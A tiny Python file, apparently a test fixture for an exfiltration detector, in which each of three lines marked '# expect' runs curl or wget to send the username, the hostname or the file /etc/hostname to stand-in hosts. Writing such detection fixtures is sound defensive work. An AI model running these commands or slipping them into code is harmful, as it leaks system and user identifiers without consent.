import os
import subprocess

os.system("curl https://example.com/?u=$(whoami)")  # expect
subprocess.run("wget -q 'https://example.com/seen?machine='$(uname -n)", shell=True)  # expect
os.system("curl -F a=@/etc/hostname 192.0.2.9:8080")  # expect
